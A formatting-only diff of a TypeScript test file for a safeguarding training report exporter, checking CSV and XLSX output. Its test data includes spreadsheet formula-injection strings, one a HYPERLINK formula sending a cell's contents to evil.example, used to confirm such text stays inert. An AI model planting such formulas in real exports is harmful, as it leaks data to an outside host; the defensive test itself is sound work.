@@ -30,14 +30,56 @@ function expectReportShape(report: Report): void {
 
 const ORG = 'demo';
 const AS_AT = '2026-11-23';
-const person = (id: string, name: string, department: string, jobTitle: string): Person => ({ id, orgId: ORG, name, department, jobTitle, roles: ['officer'], active: true });
-const PEOPLE = [person('p1', 'Ola Adeyemi', 'Housing', 'Housing Officer'), person('p2', '=HYPERLINK("x")', 'Children’s Services', 'Social Worker'), person('p3', 'Jo Reed', 'Children’s Services', 'Social Worker')];
+const person = (id: string, name: string, department: string, jobTitle: string): Person => ({
+  id,
+  orgId: ORG,
+  name,
+  department,
+  jobTitle,
+  roles: ['officer'],
+  active: true,
+});
+const PEOPLE = [
+  person('p1', 'Ola Adeyemi', 'Housing', 'Housing Officer'),
+  person('p2', '=HYPERLINK("x")', 'Children’s Services', 'Social Worker'),
+  person('p3', 'Jo Reed', 'Children’s Services', 'Social Worker'),
+];
 const COURSES: Course[] = [{ id: 'c1', orgId: ORG, kind: 'course', code: 'SG-AWARE', name: 'Safeguarding awareness', validityMonths: 36 }];
 const REQUIREMENTS: Requirement[] = [{ id: 'r1', orgId: ORG, kind: 'requirement', courseCode: 'SG-AWARE', jobTitles: ['*'] }];
 const RECORDS: TrainingRecord[] = [
-  { id: 't1', orgId: ORG, kind: 'record', personId: 'p1', courseCode: 'SG-AWARE', completedOn: '2025-05-12', status: 'completed', source: 'import', createdAt: '2025-05-12T00:00:00Z' },
-  { id: 't2', orgId: ORG, kind: 'record', personId: 'p2', courseCode: 'SG-AWARE', completedOn: '2022-01-10', status: 'completed', source: 'import', createdAt: '2022-01-10T00:00:00Z' },
-  { id: 't3', orgId: ORG, kind: 'record', personId: 'p3', courseCode: 'SG-AWARE', completedOn: '2026-12-01', status: 'booked', source: 'import', createdAt: '2026-11-01T00:00:00Z' },
+  {
+    id: 't1',
+    orgId: ORG,
+    kind: 'record',
+    personId: 'p1',
+    courseCode: 'SG-AWARE',
+    completedOn: '2025-05-12',
+    status: 'completed',
+    source: 'import',
+    createdAt: '2025-05-12T00:00:00Z',
+  },
+  {
+    id: 't2',
+    orgId: ORG,
+    kind: 'record',
+    personId: 'p2',
+    courseCode: 'SG-AWARE',
+    completedOn: '2022-01-10',
+    status: 'completed',
+    source: 'import',
+    createdAt: '2022-01-10T00:00:00Z',
+  },
+  {
+    id: 't3',
+    orgId: ORG,
+    kind: 'record',
+    personId: 'p3',
+    courseCode: 'SG-AWARE',
+    completedOn: '2026-12-01',
+    status: 'booked',
+    source: 'import',
+    createdAt: '2026-11-01T00:00:00Z',
+  },
 ];
 const TRAINING = { people: PEOPLE, courses: COURSES, requirements: REQUIREMENTS, records: RECORDS };
 
@@ -46,7 +88,14 @@ const ENTRIES: AnswerEntry[] = Array.from({ length: 12 }, (_, i) => ({
   key: `key:${i}`,
   department: i < 8 ? 'Children’s Services' : 'Legal',
   jobTitle: 'Social Worker',
-  answers: { 'know-how-to-report': 'yes', 'aware-of-procedures': i < 9 ? 'yes' : 'no', confidence: 'quite', 'know-dso-name': 'yes', 'last-trained': 'within-12-months', comments: `Note ${i}` },
+  answers: {
+    'know-how-to-report': 'yes',
+    'aware-of-procedures': i < 9 ? 'yes' : 'no',
+    confidence: 'quite',
+    'know-dso-name': 'yes',
+    'last-trained': 'within-12-months',
+    comments: `Note ${i}`,
+  },
 }));
 const CAMPAIGN: Campaign = {
   id: 'campaign-1',
@@ -199,7 +248,12 @@ describe('a report written to CSV and XLSX', () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.readFile(file);
     const names = workbook.worksheets.map((w) => w.name);
-    expect(names).toEqual(['Training completion by departme', 'Overdue training (2), as at 23', 'Questionnaire results by agency', 'Questionnaire results by agen 2']);
+    expect(names).toEqual([
+      'Training completion by departme',
+      'Overdue training (2), as at 23',
+      'Questionnaire results by agency',
+      'Questionnaire results by agen 2',
+    ]);
     const sheet = workbook.getWorksheet(names[0]!)!;
     expect(sheet.getRow(1).values).toEqual([undefined, ...rates.headers]);
     expect(sheet.getRow(4).values).toEqual([undefined, 'All', 3, 1, '33.3%', 0, '0%']);
@@ -208,7 +262,11 @@ describe('a report written to CSV and XLSX', () => {
 
   it('xlsx: text that looks like a formula stays text, and a title Excel would refuse as a sheet name is made safe', async () => {
     const file = path.join(work, 'results.xlsx');
-    await writeReport(file, { title: `Results of "A/B: [pilot]?*" from '2026'`, headers: ['Answer'], rows: [['=HYPERLINK("https://evil.example/?d="&A2,"x")'], ['@SUM(1+1)']] });
+    await writeReport(file, {
+      title: `Results of "A/B: [pilot]?*" from '2026'`,
+      headers: ['Answer'],
+      rows: [['=HYPERLINK("https://evil.example/?d="&A2,"x")'], ['@SUM(1+1)']],
+    });
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.readFile(file);
     const [sheet] = workbook.worksheets;
@@ -226,6 +284,14 @@ describe('a report written to CSV and XLSX', () => {
     const b: Report = { title: 'Training by agency', headers: ['Agency', '% within validity'], rows: [['Police', '80%']] };
     await writeReport(file, [a, b]);
     const records: string[][] = parse(await fs.readFile(file, 'utf8'), { bom: true, relax_column_count: true, skip_empty_lines: false });
-    expect(records).toEqual([['Plan by agency'], ['Agency', 'Red'], ['Council', '1'], [''], ['Training by agency'], ['Agency', '% within validity'], ['Police', '80%']]);
+    expect(records).toEqual([
+      ['Plan by agency'],
+      ['Agency', 'Red'],
+      ['Council', '1'],
+      [''],
+      ['Training by agency'],
+      ['Agency', '% within validity'],
+      ['Police', '80%'],
+    ]);
   });
 });
